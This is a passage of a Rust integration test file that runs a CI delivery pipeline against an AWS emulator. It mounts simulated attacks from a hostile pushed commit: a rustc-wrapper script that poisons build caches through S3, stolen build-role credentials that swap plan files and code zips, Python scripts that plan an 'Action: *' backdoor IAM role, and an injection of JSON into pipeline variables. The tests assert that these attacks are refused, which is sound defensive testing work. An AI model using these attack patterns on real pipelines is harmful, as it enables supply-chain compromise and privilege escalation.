//! A stage's delivery pipeline run on this machine against the emulator (`cargo xtask pipeline run
//! --local` and its library), with the attacks an outside review mounted on it: a pushed cargo config
//! and rustc wrapper, a poisoned build cache, a plan file and a function zip swapped with Plan's copied-out
//! credentials, a skipped or refused approval, and an over-broad role planned by a pushed xtask. Each
//! asserts what the trusted builds ran and what reached the stacks.
//!
//! The pushed commit's toolchain is stood in for by shims on the builds' `PATH` (the image's tools): a
//! `curl` whose rustup installer puts `$HOME/.cargo/bin` on `PATH` as rustup's does, and a `cargo` that
//! does what matters of cargo here: it reads `[build] rustc-wrapper` from `.cargo/config.toml` in the
//! directory it runs in and every parent, and runs it as cargo would before compiling; `cargo xtask`
//! runs this test's xtask (the pushed commit's own code), or the commit's `xtask-pushed` when it carries
//! one (a commit that rewrote its xtask). The AWS CLI is the tool venv's.
#![allow(clippy::unwrap_used)] // helpers outside #[test] functions panic on setup failure too

mod support;
use support::{elf, person, scratch};

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sha2::Digest as _;
use xtask::pipeline::local::{Approval, Artifact, Options, Run, StageResult};

const REVIEWER_COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
const BUCKET: &str = "itest-artifacts-123456789012-us-east-1";

struct Fixture {
    moto: devenv::Moto,
    venv: devenv::Venv,
    dir: PathBuf,
    repo: PathBuf,
    zips: PathBuf,
    shims: PathBuf,
    markers: PathBuf,
    runs: std::cell::Cell<usize>,
}

fn text_of(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

fn hex(bytes: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(bytes))
}

fn write_executable(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Takes out of the repository the rustc wrapper a hostile push put in.
fn remove_wrapper(repo: &Path) {
    let config = std::fs::read_to_string(repo.join(".cargo/config.toml")).unwrap();
    let honest = config.replace("[build]\nrustc-wrapper = \"wrapper.sh\"\n", "");
    std::fs::write(repo.join(".cargo/config.toml"), honest).unwrap();
    std::fs::remove_file(repo.join("wrapper.sh")).unwrap();
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git").arg("-C").arg(dir).args(args).output().unwrap();
    assert!(out.status.success(), "git {args:?}: {}", text_of(&out));
}

impl Fixture {
    /// A repository like this workspace, its stage `dev` of project `itest` with a pipeline, deployed in
    /// a fresh emulator by a person: the reviewer binary (this test's xtask), the bootstrap and pipeline
    /// stacks, and a first deploy of the stage's stacks from a laptop.
    fn new(name: &str) -> Fixture {
        let venv = devenv::ensure(&mut |line| eprintln!("{line}")).unwrap();
        let moto = devenv::Moto::start(&venv).unwrap();
        let dir = scratch::dir(name);
        let f = Fixture {
            repo: dir.join("repo"),
            zips: dir.join("zips"),
            shims: dir.join("shims"),
            markers: dir.join("markers"),
            dir,
            moto,
            venv,
            runs: std::cell::Cell::new(0),
        };
        for d in [&f.repo, &f.zips, &f.shims, &f.markers] {
            std::fs::create_dir_all(d).unwrap();
        }
        f.copy_workspace();
        let connection = f.connection();
        let reviewer = hex(&std::fs::read(env!("CARGO_BIN_EXE_xtask")).unwrap());
        std::fs::write(
            f.repo.join("stages.toml"),
            format!(
                "project = \"itest\"\nregion = \"us-east-1\"\narchitecture = \"x86_64\"\n\n[defaults]\nmemory_mb = 256\n\n\
                 [stages.dev]\nmail = {{ sender = \"no-reply@itest.example.com\", domain = \"itest.example.com\" }}\n\n\
                 [pipeline]\nconnection_arn = \"{connection}\"\nrepository = \"example-org/auth\"\n\
                 reviewer = \"{REVIEWER_COMMIT}\"\nreviewer_sha256 = {{ x86_64 = \"{reviewer}\" }}\n"
            ),
        )
        .unwrap();
        std::fs::remove_dir_all(f.repo.join("templates")).unwrap();
        f.synth();
        git(&f.repo, &["init", "--quiet", "--initial-branch=dev"]);
        git(&f.repo, &["add", "-A"]);
        git(&f.repo, &["-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "--quiet", "-m", "itest"]);
        f.set_zips("v1");
        f.write_shims();
        let xtask = env!("CARGO_BIN_EXE_xtask");
        for args in [
            vec!["pipeline", "reviewer", "--stage", "dev", "--binary", xtask],
            vec!["pipeline", "deploy", "--stage", "dev", "--yes", "--approve-iam"],
            vec!["deploy", "--stage", "dev", "--yes", "--approve-iam", "--artifacts", &f.zips.to_string_lossy()],
        ] {
            let out = f.person(&args);
            assert_eq!(out.status.code(), Some(0), "{args:?}: {}", text_of(&out));
        }
        f
    }

    /// The workspace's files as git sees them (tracked, or new and not ignored).
    fn copy_workspace(&self) {
        let root = devenv::workspace_root().unwrap();
        let out = Command::new("git")
            .arg("-C")
            .arg(&root)
            .args(["ls-files", "-co", "--exclude-standard", "-z"])
            .output()
            .unwrap();
        for file in out.stdout.split(|b| *b == 0).filter(|f| !f.is_empty()) {
            let relative = String::from_utf8_lossy(file).into_owned();
            let (from, to) = (root.join(&relative), self.repo.join(&relative));
            if !from.is_file() {
                continue;
            }
            std::fs::create_dir_all(to.parent().unwrap()).unwrap();
            std::fs::copy(&from, &to).unwrap();
        }
    }

    fn connection(&self) -> String {
        xtask::aws::runtime().unwrap().block_on(async {
            let config = xtask::local::data::sdk_config(&self.moto.endpoint(), "us-east-1").await;
            let tag = aws_sdk_codeconnections::types::Tag::builder()
                .key("harness:status")
                .value("AVAILABLE")
                .build()
                .unwrap();
            let client = aws_sdk_codeconnections::Client::new(&config);
            client
                .create_connection()
                .connection_name("itest")
                .provider_type("GitHub".into())
                .tags(tag)
                .send()
                .await
                .unwrap()
                .connection_arn
        })
    }

    fn synth(&self) {
        let out = Command::new(env!("CARGO_BIN_EXE_xtask"))
            .current_dir(&self.repo)
            .args(["--config", "stages.toml", "synth"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text_of(&out));
    }

    /// A push: `edit` the repository, synthesize, commit.
    fn push(&self, message: &str, edit: impl FnOnce(&Path)) {
        edit(&self.repo);
        self.synth();
        git(&self.repo, &["add", "-A"]);
        git(
            &self.repo,
            &[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.org",
                "commit",
                "--quiet",
                "--allow-empty",
                "-m",
                message,
            ],
        );
    }

    /// What the function zips hold (the build output the pushed commit's cargo would make).
    fn set_zips(&self, version: &str) {
        let root = devenv::workspace_root().unwrap();
        for f in xtask::functions(&root).unwrap() {
            let dir = self.zips.join(f.name());
            std::fs::create_dir_all(&dir).unwrap();
            let zip = xtask::package::zip_bootstrap(&elf::x86_64(&format!("{f} {version}"))).unwrap();
            std::fs::write(dir.join("bootstrap.zip.sha256"), format!("{}  bootstrap.zip\n", hex(&zip))).unwrap();
            std::fs::write(dir.join("bootstrap.zip"), zip).unwrap();
        }
    }

    fn write_shims(&self) {
        write_executable(
            &self.shims.join("curl"),
            "#!/bin/sh\n# Stands for the rustup installer fetched by the plan build: it puts $HOME/.cargo/bin on PATH.\n\
             printf 'mkdir -p \"$HOME/.cargo/bin\"; echo export PATH=\"\\\\$HOME/.cargo/bin:\\\\$PATH\" > \"$HOME/.cargo/env\"\\n'\n",
        );
        write_executable(
            &self.shims.join("cargo"),
            &format!(
                r#"#!/bin/sh
# cargo as far as these tests need it: the rustc wrapper of any .cargo/config.toml from here upward
# runs first, as cargo runs it before compiling; then `cargo xtask` runs the pushed commit's xtask.
dir=$(pwd)
while :; do
  if [ -f "$dir/.cargo/config.toml" ]; then
    wrapper=$(sed -n 's/^rustc-wrapper *= *"\(.*\)"/\1/p' "$dir/.cargo/config.toml" | head -n 1)
    if [ -n "$wrapper" ]; then
      case "$wrapper" in /*) ;; *) wrapper="$dir/$wrapper" ;; esac
      # cargo hands the wrapper rustc's path and arguments; compiling is out of these tests' scope.
      "$wrapper" true > /dev/null || exit 101
    fi
  fi
  [ "$dir" = / ] && break
  dir=$(dirname "$dir")
done
[ "$1" = xtask ] || {{ echo "cargo $*: not emulated" >&2; exit 99; }}
shift
[ -x ./xtask-pushed ] && exec ./xtask-pushed "$@"
case "$1" in
  # The test command and the advisories (RustSec's database is out of this machine's reach) pass.
  test|deny) exit 0 ;;
  deploy) shift; exec {xtask} deploy --artifacts {zips} "$@" ;;
esac
exec {xtask} "$@"
"#,
                xtask = env!("CARGO_BIN_EXE_xtask"),
                zips = self.zips.display()
            ),
        );
    }

    /// The builds' PATH: the shims, the tool venv (the AWS CLI), then this machine's.
    fn path(&self) -> std::ffi::OsString {
        let rest = std::env::var_os("PATH").unwrap_or_default();
        let mut dirs = vec![self.shims.clone(), self.venv.bin("aws").parent().unwrap().to_owned()];
        dirs.extend(std::env::split_paths(&rest));
        std::env::join_paths(dirs).unwrap()
    }

    /// xtask as a person runs it from the repository, with the emulator's credentials.
    fn person(&self, args: &[&str]) -> Output {
        let endpoint = self.moto.endpoint();
        let mut command = Command::new(env!("CARGO_BIN_EXE_xtask"));
        command
            .current_dir(&self.repo)
            .args(["--config", "stages.toml"])
            .args(args)
            .args(["--endpoint-url", &endpoint]);
        person::as_person(&mut command, &self.dir).output().unwrap()
    }

    /// A new execution of the pipeline on the repository's HEAD.
    async fn run(&self) -> Run {
        self.runs.set(self.runs.get() + 1);
        let options = Options {
            sdk: xtask::local::data::sdk_config(&self.moto.endpoint(), "us-east-1").await,
            pipeline: "itest-dev".into(),
            repository: self.repo.clone(),
            commit: "HEAD".into(),
            work: self.dir.join(format!("run-{}", self.runs.get())),
            path: self.path(),
        };
        Run::start(options).await.unwrap()
    }

    /// The builds (by CodeBuild project) that wrote `marker`, one line each.
    fn who_wrote(&self, marker: &str) -> Vec<String> {
        std::fs::read_to_string(self.markers.join(marker)).unwrap_or_default().lines().map(str::to_owned).collect()
    }

    /// An S3 client as the role `role` (STS AssumeRole, as credentials copied out of its build).
    async fn s3_as(&self, role: &str) -> aws_sdk_s3::Client {
        let config = xtask::local::data::sdk_config(&self.moto.endpoint(), "us-east-1").await;
        let sts = aws_sdk_sts::Client::new(&config);
        let arn = format!("arn:aws:iam::123456789012:role/{role}");
        let c = sts.assume_role().role_arn(arn).role_session_name("stolen").send().await.unwrap().credentials.unwrap();
        let credentials = aws_credential_types::Credentials::new(
            c.access_key_id,
            c.secret_access_key,
            Some(c.session_token),
            None,
            "stolen",
        );
        let s3 =
            aws_sdk_s3::config::Builder::from(&config).credentials_provider(credentials).force_path_style(true).build();
        aws_sdk_s3::Client::from_conf(s3)
    }

    async fn s3(&self) -> aws_sdk_s3::Client {
        let config = xtask::local::data::sdk_config(&self.moto.endpoint(), "us-east-1").await;
        aws_sdk_s3::Client::from_conf(aws_sdk_s3::config::Builder::from(&config).force_path_style(true).build())
    }

    /// The SHA-256 Lambda reports for a function's code (base64, as Lambda gives it).
    async fn code_sha(&self, function: &str) -> String {
        let config = xtask::local::data::sdk_config(&self.moto.endpoint(), "us-east-1").await;
        let lambda = LambdaCode::new(&config);
        lambda.sha(function).await
    }
}

/// Lambda's GetFunction through its REST API (the project links no Lambda SDK): the code's SHA-256.
struct LambdaCode {
    endpoint: String,
}

impl LambdaCode {
    fn new(config: &aws_config::SdkConfig) -> LambdaCode {
        LambdaCode { endpoint: config.endpoint_url().unwrap_or_default().to_owned() }
    }

    async fn sha(&self, function: &str) -> String {
        use http_body_util::BodyExt as _;
        let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
            .build_http::<http_body_util::Empty<hyper::body::Bytes>>();
        let request = hyper::Request::get(format!("{}/2015-03-31/functions/{function}", self.endpoint))
            .header("authorization", "AWS4-HMAC-SHA256 Credential=test/20261206/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=0")
            .body(http_body_util::Empty::new())
            .unwrap();
        let response = client.request(request).await.unwrap();
        let body = response.into_body().collect().await.unwrap().to_bytes();
        let json: serde_json::Value =
            serde_json::from_slice(&body).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&body)));
        json["Configuration"]["CodeSha256"].as_str().unwrap_or_default().to_owned()
    }
}

fn base64_sha(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(bytes))
}

#[test]
fn an_honest_push_runs_through_every_stage_each_build_as_its_own_role() {
    let f = Fixture::new("pipeline-honest");
    f.push("more memory", |repo| {
        let path = repo.join("stages.toml");
        let text = std::fs::read_to_string(&path).unwrap().replace("memory_mb = 256", "memory_mb = 320");
        std::fs::write(path, text).unwrap();
    });
    let endpoint = f.moto.endpoint();
    let repo = f.repo.to_string_lossy().into_owned();
    let out = Command::new(env!("CARGO_BIN_EXE_xtask"))
        .current_dir(&f.repo)
        .args(["--config", "stages.toml", "pipeline", "run", "--local", "--stage", "dev", "--repository", &repo])
        .args(["--endpoint-url", &endpoint])
        .env("PATH", f.path())
        .env("AWS_ACCESS_KEY_ID", "test")
        .env("AWS_SECRET_ACCESS_KEY", "test")
        .env_remove("AWS_PROFILE")
        .output()
        .unwrap();
    let t = text_of(&out);
    assert_eq!(out.status.code(), Some(0), "{t}");
    // Each build ran as its own role, Plan with the pushed code, Review and Apply with the pinned binary.
    for role in ["itest-dev-ci-plan", "itest-dev-ci-review", "itest-dev-ci-apply"] {
        assert!(t.contains(&format!("as arn:aws:iam::123456789012:role/{role})")), "{role}: {t}");
    }
    assert!(t.contains("skipped: its entry condition's rule failed"), "not risky, so no person: {t}");
    assert!(t.contains("no new IAM grant and no data at risk: no approval needed"), "{t}");
    assert!(t.contains("itest-dev-api: UPDATE_COMPLETE"), "{t}");
    assert_eq!(f.person(&["diff", "--stage", "dev"]).status.code(), Some(0), "the push is deployed");
}

#[test]
fn a_pushed_cargo_config_and_a_poisoned_cache_never_run_in_review_or_apply() {
    let f = Fixture::new("pipeline-cargo-config");
    let markers = f.markers.display().to_string();
    // The pushed commit carries a rustc wrapper that records where it runs, poisons every cache path
    // Plan saves (a `cargo` on PATH, the reviewer's old target directory), and writes a poisoned archive
    // with Plan's own credentials to every cache location it can name.
    // The poisoned `cargo` records where it ran and carries on as cargo (so the hostile Plan succeeds and
    // saves its cache); the poisoned reviewer binary records where it ran and fails.
    let shims = f.shims.display().to_string();
    let poison_cargo =
        format!("#!/bin/sh\necho \"${{CODEBUILD_BUILD_ID%%:*}}\" >> {markers}/poison-ran\nexec {shims}/cargo \"$@\"\n");
    let poison_xtask = format!("#!/bin/sh\necho \"${{CODEBUILD_BUILD_ID%%:*}}\" >> {markers}/poison-ran\nexit 1\n");
    let wrapper = format!(
        r#"#!/bin/sh
echo "${{CODEBUILD_BUILD_ID%%:*}}" >> {markers}/wrapper-ran
[ -f "$TMPDIR/poisoned.tar" ] && exec "$@"
mkdir -p "$TMPDIR/p/root/.cargo/bin" "$TMPDIR/p/src/target/reviewer/debug" target/reviewer/debug
printf '%s' '{poison_cargo}' > "$TMPDIR/p/root/.cargo/bin/cargo"
printf '%s' '{poison_xtask}' > "$TMPDIR/p/src/target/reviewer/debug/xtask"
chmod +x "$TMPDIR/p/root/.cargo/bin/cargo" "$TMPDIR/p/src/target/reviewer/debug/xtask"
cp "$TMPDIR/p/src/target/reviewer/debug/xtask" target/reviewer/debug/xtask
tar -cf "$TMPDIR/poisoned.tar" -C "$TMPDIR/p" root src
for prefix in itest-dev itest-dev-ci-review itest-dev-ci-apply itest-dev-ci-plan; do
  aws s3 cp --quiet "$TMPDIR/poisoned.tar" "s3://{BUCKET}/cache/$prefix/cache.tar" || echo "refused: $prefix" >&2
done
exec "$@"
"#
    );
    f.push("a rustc wrapper", |repo| {
        std::fs::create_dir_all(repo.join(".cargo")).unwrap();
        let config = std::fs::read_to_string(repo.join(".cargo/config.toml")).unwrap();
        std::fs::write(repo.join(".cargo/config.toml"), format!("{config}\n[build]\nrustc-wrapper = \"wrapper.sh\"\n"))
            .unwrap();
        write_executable(&repo.join("wrapper.sh"), &wrapper);
    });
    xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        assert_eq!(run.all(Approval::Refuse).await.unwrap(), StageResult::Succeeded);
    });
    let wrapped = f.who_wrote("wrapper-ran");
    assert!(
        !wrapped.is_empty() && wrapped.iter().all(|b| b == "itest-dev-ci-plan"),
        "the pushed code ran in Plan alone: {wrapped:?}"
    );
    // Plan saved its own cache when it ended, over what the wrapper wrote there; with its copied-out
    // credentials the poisoned archive goes back after the build.
    let archive = f.dir.join("poisoned");
    for (path, text) in [("root/.cargo/bin/cargo", &poison_cargo), ("src/target/reviewer/debug/xtask", &poison_xtask)] {
        std::fs::create_dir_all(archive.join(path).parent().unwrap()).unwrap();
        write_executable(&archive.join(path), text);
    }
    let tar = f.dir.join("poisoned.tar");
    assert!(
        Command::new("tar")
            .arg("-cf")
            .arg(&tar)
            .arg("-C")
            .arg(&archive)
            .args(["root", "src"])
            .status()
            .unwrap()
            .success()
    );
    xtask::aws::runtime().unwrap().block_on(async {
        let stolen = f.s3_as("itest-dev-ci-plan").await;
        let body = std::fs::read(&tar).unwrap();
        stolen
            .put_object()
            .bucket(BUCKET)
            .key("cache/itest-dev-ci-plan/cache.tar")
            .body(body.into())
            .send()
            .await
            .unwrap();
    });

    // The next push is honest; Plan restores its poisoned cache. Review and Apply restore none.
    f.push("honest again", |repo| {
        remove_wrapper(repo);
        let path = repo.join("stages.toml");
        std::fs::write(&path, std::fs::read_to_string(&path).unwrap().replace("memory_mb = 256", "memory_mb = 384"))
            .unwrap();
    });
    let plan = xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        for stage in ["Source", "Plan"] {
            run.stage(stage, Approval::Refuse).await.unwrap();
        }
        let review = run.stage("Review", Approval::Refuse).await.unwrap();
        assert_eq!(review, StageResult::Succeeded, "the pinned binary reviewed");
        run.stage("Approve", Approval::Refuse).await.unwrap();
        run.stage("Apply", Approval::Refuse).await.unwrap()
    });
    assert_eq!(plan, StageResult::Succeeded, "the honest change was applied");
    let poisoned: Vec<String> = f.who_wrote("poison-ran");
    assert!(poisoned.iter().all(|b| b == "itest-dev-ci-plan"), "poison ran in a trusted build: {poisoned:?}");
    // Plan's own later runs do restore what a push left in Plan's cache (README: clear it after a hostile
    // push); the poisoned cargo stood first on Plan's PATH and ran there.
    assert!(!poisoned.is_empty(), "Plan's cache carried the poison into the next Plan");
}

#[test]
fn a_plan_or_a_zip_swapped_after_plan_never_runs() {
    let f = Fixture::new("pipeline-swaps");
    f.set_zips("v2");
    f.push("new code", |_| {});
    // Plan's credentials, copied out by a pushed commit of an earlier run, swap the plan file of this one.
    let stage = xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        run.stage("Source", Approval::Refuse).await.unwrap();
        assert_eq!(run.stage("Plan", Approval::Refuse).await.unwrap(), StageResult::Succeeded);
        let Some(Artifact::Stored { bucket, key }) = run.artifact("Plan").cloned() else { panic!("no Plan artifact") };
        let stolen = f.s3_as("itest-dev-ci-plan").await;
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        zip.start_file("plan.json", zip::write::SimpleFileOptions::default()).unwrap();
        std::io::Write::write_all(
            &mut zip,
            br#"{"version":1,"stage":"dev","account":"123456789012","region":"us-east-1","stacks":[]}"#,
        )
        .unwrap();
        let body = zip.finish().unwrap().into_inner();
        stolen.put_object().bucket(&bucket).key(&key).body(body.into()).send().await.unwrap();
        run.stage("Review", Approval::Refuse).await.unwrap()
    });
    assert!(matches!(&stage, StageResult::Failed(why) if why.contains("not the plan this run made")), "{stage:?}");
    let before = xtask::aws::runtime().unwrap().block_on(f.code_sha("itest-dev-hello"));

    // A second run: reviewed, then the approved zip's key written over between Review and Apply.
    let zip_v2 = std::fs::read(f.zips.join("hello/bootstrap.zip")).unwrap();
    let key = format!("itest/dev/hello/{}.zip", hex(&zip_v2));
    let applied = xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        for stage in ["Source", "Plan", "Review", "Approve"] {
            let result = run.stage(stage, Approval::Refuse).await.unwrap();
            assert!(matches!(result, StageResult::Succeeded | StageResult::Skipped), "{stage}: {result:?}");
        }
        let stolen = f.s3_as("itest-dev-ci-plan").await;
        // The bucket refuses it, whoever asks: code keys are written once.
        let put = stolen.put_object().bucket(BUCKET).key(&key).body(b"their code".to_vec().into()).send().await;
        assert!(put.is_err(), "the bucket policy lets a code key be rewritten");
        let again = stolen
            .put_object()
            .bucket(BUCKET)
            .key(&key)
            .if_none_match("*")
            .body(b"their code".to_vec().into())
            .send()
            .await;
        assert!(again.is_err(), "a conditional write replaced a code key");
        // Even with the policy gone (an account administrator's doing), the change set pins the version.
        let admin = f.s3().await;
        admin.delete_bucket_policy().bucket(BUCKET).send().await.unwrap();
        admin.put_object().bucket(BUCKET).key(&key).body(b"their code".to_vec().into()).send().await.unwrap();
        run.stage("Apply", Approval::Refuse).await.unwrap()
    });
    assert_eq!(applied, StageResult::Succeeded);
    let after = xtask::aws::runtime().unwrap().block_on(f.code_sha("itest-dev-hello"));
    assert_ne!(before, after, "the new code was deployed");
    assert_eq!(after, base64_sha(&zip_v2), "what runs is the zip that was reviewed");
}

/// A pushed xtask that plans an api change set of its own: a role allowed everything, with the
/// stage's boundary or without it, and a plan file that names it.
fn over_broad(with_boundary: bool) -> String {
    let boundary = if with_boundary {
        r#""PermissionsBoundary": {"Fn::Sub": "arn:${AWS::Partition}:iam::${AWS::AccountId}:policy/itest-dev-boundary"},"#
    } else {
        ""
    };
    format!(
        r#"#!/usr/bin/env python3
import json, sys, time, boto3, yaml
args = sys.argv[1:]
if args[0] in ("test", "deny"):
    sys.exit(0)
arg = lambda name: args[args.index(name) + 1]
cfn = boto3.client("cloudformation")
stack = "itest-dev-api"
template = yaml.safe_load(cfn.get_template(StackName=stack)["TemplateBody"])
template["Resources"]["BackdoorRole"] = json.loads('''{{"Type": "AWS::IAM::Role", "Properties": {{
    "RoleName": "itest-dev-backdoor", {boundary}
    "AssumeRolePolicyDocument": {{"Version": "2012-10-17", "Statement": [{{"Effect": "Allow",
        "Principal": {{"Service": "lambda.amazonaws.com"}}, "Action": ["sts:AssumeRole"]}}]}},
    "Policies": [{{"PolicyName": "all", "PolicyDocument": {{"Version": "2012-10-17",
        "Statement": [{{"Effect": "Allow", "Action": "*", "Resource": "*"}}]}}}}]}}}}''')
params = [{{"ParameterKey": p["ParameterKey"], "ParameterValue": p["ParameterValue"]}}
          for p in cfn.describe_stacks(StackName=stack)["Stacks"][0]["Parameters"]]
made = cfn.create_change_set(StackName=stack, ChangeSetName="xtask-" + arg("--run-id"), ChangeSetType="UPDATE",
    TemplateBody=json.dumps(template), Parameters=params, RoleARN=arg("--cfn-role"), Capabilities=["CAPABILITY_NAMED_IAM"])
for _ in range(100):
    if cfn.describe_change_set(ChangeSetName=made["Id"])["Status"] in ("CREATE_COMPLETE", "FAILED"):
        break
    time.sleep(0.1)
plan = {{"version": 1, "stage": "dev", "account": "123456789012", "region": "us-east-1", "run": arg("--run-id"),
    "stacks": [{{"stack": stack, "change_set": made["Id"], "creating": False, "baseline": None,
    "template_sha256": "0", "changes": [], "iam": [], "grants": ["harmless first"], "data_loss": []}}]}}
json.dump(plan, open(arg("--summary-file"), "w"))
"#
    )
}

#[test]
fn a_risky_plan_runs_only_with_this_executions_approval_and_no_role_escapes_the_boundary() {
    let f = Fixture::new("pipeline-approval");
    // A risky push: the authorizer's cache (an access row) changes.
    f.push("longer authorizer cache", |repo| {
        let path = repo.join("stages.toml");
        let text = std::fs::read_to_string(&path)
            .unwrap()
            .replace("[defaults]\n", "[defaults]\nauthorizer_cache_ttl_seconds = 120\n");
        std::fs::write(path, text).unwrap();
    });
    xtask::aws::runtime().unwrap().block_on(async {
        // Approve skipped (as a misread condition would): Apply asks CodePipeline and refuses.
        let mut run = f.run().await;
        for stage in ["Source", "Plan", "Review"] {
            assert_eq!(run.stage(stage, Approval::Refuse).await.unwrap(), StageResult::Succeeded, "{stage}");
        }
        assert_eq!(run.variable("Review", "RISKY"), Some("true"));
        let skipped = run.stage("Apply", Approval::Refuse).await.unwrap();
        assert!(matches!(&skipped, StageResult::Failed(why) if why.contains("has no Approve action")), "{skipped:?}");
        // Refused by the person: the run stops there, and an Apply forced after it refuses too.
        let mut run = f.run().await;
        assert_eq!(run.all(Approval::Refuse).await.unwrap(), StageResult::Rejected);
        let forced = run.stage("Apply", Approval::Refuse).await.unwrap();
        assert!(matches!(&forced, StageResult::Failed(why) if why.contains("Approve action is Failed")), "{forced:?}");
        // Approved: applied.
        let mut run = f.run().await;
        assert_eq!(run.all(Approval::Give).await.unwrap(), StageResult::Succeeded);
    });
    assert_eq!(f.person(&["diff", "--stage", "dev"]).status.code(), Some(0), "applied once approved");

    // A pushed xtask plans a role allowed everything, without the stage's boundary: the review refuses it.
    f.push("a role of our own", |repo| write_executable(&repo.join("xtask-pushed"), &over_broad(false)));
    let refused = xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        run.all(Approval::Give).await.unwrap()
    });
    let unbounded = "does not carry the stage's permissions boundary";
    assert!(matches!(&refused, StageResult::Failed(why) if why.contains(unbounded)), "{refused:?}");
    // With the boundary: reviewed, the wildcard shown before anything the plan put first, and refused by
    // the person (the boundary would cap it anyway: synth/tests/pipeline_access.rs).
    f.push("a bounded role of our own", |repo| write_executable(&repo.join("xtask-pushed"), &over_broad(true)));
    xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        assert_eq!(run.all(Approval::Refuse).await.unwrap(), StageResult::Rejected);
        let message = run.variable("Review", "APPROVAL").unwrap_or_default().to_owned();
        let lines: Vec<&str> = message.lines().collect();
        assert!(lines[0].starts_with("commit ") && lines[0].contains("to approve"), "{message}");
        assert!(lines[1].starts_with("trust: itest-dev-api: Service:lambda.amazonaws.com"), "{message}");
        assert!(lines[2].starts_with("wildcard: itest-dev-api: role/itest-dev-backdoor  *  *"), "{message}");
        assert!(!message.contains("harmless first"), "the plan's own rows are never read: {message}");
    });

    // A pushed xtask writes other bytes first under a key named after code it never built, and plans the
    // function on that key's version: the review refuses code whose bytes are not its key's.
    f.push("code under another name", |repo| write_executable(&repo.join("xtask-pushed"), &misnamed_code()));
    let refused = xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        run.all(Approval::Give).await.unwrap()
    });
    let misnamed = "is not the code its key names";
    assert!(matches!(&refused, StageResult::Failed(why) if why.contains(misnamed)), "{refused:?}");
}

/// A pushed xtask that plans the api stack with the hello function's code pinned to a version of a key
/// whose name is the SHA-256 of other bytes than it holds (a name it wrote first, write-once or not).
fn misnamed_code() -> String {
    r#"#!/usr/bin/env python3
import hashlib, json, sys, time, boto3
args = sys.argv[1:]
if args[0] in ("test", "deny"):
    sys.exit(0)
arg = lambda name: args[args.index(name) + 1]
s3, cfn = boto3.client("s3"), boto3.client("cloudformation")
bucket, stack = "itest-artifacts-123456789012-us-east-1", "itest-dev-api"
key = "itest/dev/hello/" + hashlib.sha256(b"the code a reviewer expects").hexdigest() + ".zip"
put = s3.put_object(Bucket=bucket, Key=key, Body=b"other code", IfNoneMatch="*")
params = {p["ParameterKey"]: p["ParameterValue"] for p in cfn.describe_stacks(StackName=stack)["Stacks"][0]["Parameters"]}
params.update({"HelloCodeKey": key, "HelloCodeVersion": put["VersionId"]})
made = cfn.create_change_set(StackName=stack, ChangeSetName="xtask-" + arg("--run-id"), ChangeSetType="UPDATE",
    UsePreviousTemplate=True, RoleARN=arg("--cfn-role"), Capabilities=["CAPABILITY_NAMED_IAM"],
    Parameters=[{"ParameterKey": k, "ParameterValue": v} for k, v in params.items()])
for _ in range(100):
    if cfn.describe_change_set(ChangeSetName=made["Id"])["Status"] in ("CREATE_COMPLETE", "FAILED"):
        break
    time.sleep(0.1)
plan = {"version": 1, "stage": "dev", "account": "123456789012", "region": "us-east-1", "run": arg("--run-id"),
    "stacks": [{"stack": stack, "change_set": made["Id"], "creating": False, "baseline": None,
    "template_sha256": "0", "changes": [], "iam": [], "grants": [], "data_loss": []}]}
json.dump(plan, open(arg("--summary-file"), "w"))
"#
    .to_owned()
}

#[test]
fn what_plan_exports_cannot_rewrite_reviews_settings_and_a_redirected_source_is_refused() {
    let f = Fixture::new("pipeline-injection");
    let markers = f.markers.display().to_string();
    // The pushed commit's wrapper uploads a reviewer of its own to a bucket of its own, and puts a `cut`
    // first on Plan's PATH that makes PLAN_DIGEST a value closing the JSON of Review's configuration, as
    // CodePipeline would paste it, with settings that point Review at that reviewer.
    let wrapper = format!(
        r#"#!/bin/sh
[ -x "$HOME/.cargo/bin/cut" ] && exec "$@"
printf '#!/bin/sh\necho "${{CODEBUILD_BUILD_ID%%%%:*}}" >> {markers}/impostor-ran\nexit 1\n' > "$TMPDIR/xtask"
sha=$(sha256sum "$TMPDIR/xtask" | awk '{{print $1}}')
aws s3 mb s3://impostor-artifacts > /dev/null
aws s3 cp --quiet "$TMPDIR/xtask" "s3://impostor-artifacts/reviewer/$sha/xtask"
mkdir -p "$HOME/.cargo/bin"
cat > "$HOME/.cargo/bin/cut" <<EOF2
#!/bin/sh
printf '%s' '0","type":"PLAINTEXT"}},{{"name":"ARTIFACT_BUCKET","value":"impostor-artifacts","type":"PLAINTEXT"}},{{"name":"REVIEWER_SHA256","value":"'$sha
EOF2
chmod +x "$HOME/.cargo/bin/cut"
exec "$@"
"#
    );
    f.push("a rustc wrapper", |repo| {
        let config = std::fs::read_to_string(repo.join(".cargo/config.toml")).unwrap();
        std::fs::write(repo.join(".cargo/config.toml"), format!("{config}\n[build]\nrustc-wrapper = \"wrapper.sh\"\n"))
            .unwrap();
        write_executable(&repo.join("wrapper.sh"), &wrapper);
    });
    let review = xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        for stage in ["Source", "Plan"] {
